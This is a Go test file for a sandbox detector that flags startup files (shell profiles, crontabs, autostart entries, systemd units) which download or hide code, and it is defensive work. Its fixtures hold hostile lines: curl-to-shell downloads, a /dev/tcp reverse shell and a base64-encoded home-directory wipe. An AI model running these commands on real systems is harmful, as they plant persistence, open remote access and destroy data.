package behaviour

import (
	"strings"
	"testing"

	"github.com/aigate/gate/sandbox"
)

func TestAStartFileThatFetchesOrHidesItsCodeIsDangerous(t *testing.T) {
	const rule = "persistence/observed-start-code"
	tests := map[string]struct {
		path, text string
		kind       Kind
		want       string
	}{
		"a download in a profile":     {"/tmp/.bashrc", "alias ll='ls -l'\ncurl -s https://example.com/x | sh\n", Module, dan},
		"a download in a table":       {"/tmp/.local/share/cron/crontabs/user", "*/10 * * * * curl -fsS https://example.com/s | bash\n", Script, dan},
		"a download when one logs in": {"/tmp/.config/autostart/theme.desktop", "[Desktop Entry]\nExec=sh -c \"curl -s example.com/s|sh\"\n", Exercise, dan},
		"a shell in a unit":           {"/etc/systemd/system/a.service", "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.4/9 0>&1'\n", Exercise, dan},
		"decoded code":                {"/tmp/.profile", "echo cm0gLXJmIH4= | base64 -d | sh\n", Exercise, dan},
		"written by tests":            {"/tmp/.bashrc", "curl -s https://example.com/x | sh\n", Tests, sus},
		"a path":                      {"/tmp/.bashrc", "export PATH=$HOME/.local/bin:$PATH\n", Module, ""},
		"a completion":                {"/tmp/.bashrc", "source <(tool completion bash)\n", Module, ""},
		"a comment":                   {"/tmp/.bashrc", "# curl -s https://example.com/x | sh\n", Module, ""},
		"a backup at night":           {"/tmp/.local/share/cron/crontabs/user", "0 3 * * * tar -czf /srv/backup.tgz /srv/data\n", Module, ""},
		"a script elsewhere":          {"/tmp/install.sh", "#!/bin/sh\ncurl -s https://example.com/x | sh\n", Module, ""},
	}
	for name, tt := range tests {
		run := runOf(t, tt.kind, "")
		run.Seen.Captures = []sandbox.Capture{{Path: tt.path, How: "written", Data: []byte(tt.text)}}
		got := rulesOf(Findings(run))
		if tt.want == "" && strings.Contains(got, rule) || tt.want != "" && !strings.Contains(got, rule+tt.want) {
			t.Errorf("%s: %s, want %q", name, got, tt.want)
		}
	}
}
